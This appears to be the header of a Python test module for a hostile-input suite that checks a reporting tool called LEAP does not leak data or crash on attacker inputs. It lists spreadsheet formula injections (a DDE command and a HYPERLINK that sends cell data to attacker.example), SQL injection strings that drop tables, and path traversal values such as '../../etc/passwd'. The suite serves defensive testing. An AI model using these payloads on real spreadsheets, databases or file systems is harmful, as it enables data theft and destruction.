"""The hostile-input suite (issue 12): each case feeds LEAP what an attacker or a careless user would,
and checks that nothing leaks, nothing is lost and the user gets one sentence.

It reuses the cheap fixtures of the unit tests (a few mart rows; a small generated university landed
without dbt); the end-to-end cases build one small term per module."""

from tests.support.privacy_world import delivered, university  # noqa: F401 (fixtures)
from tests.support.published_reports import mart, publish_root, published  # noqa: F401 (fixtures)

# Values that a spreadsheet would run, or that would break out of SQL or a path, if written as given.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?d="&A2,"Click")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
SQL_SHAPED = ["'; drop table marts.contacts; --", 'x" or "1"="1', "Robert'); DELETE FROM raw.sits_student;--"]
PATH_SHAPED = ["../../etc/passwd", "..\\..\\windows", "a/b/c", "/abs", "con:", "nul"]
UNICODE = ["Zoë Ñúñez", "学校", "école\u200bcachée", "x" * 300]


def one_sentence(message: str) -> bool:
    """A message for a user: one line, no traceback."""
    return "\n" not in message.strip() and "Traceback" not in message and len(message) < 600
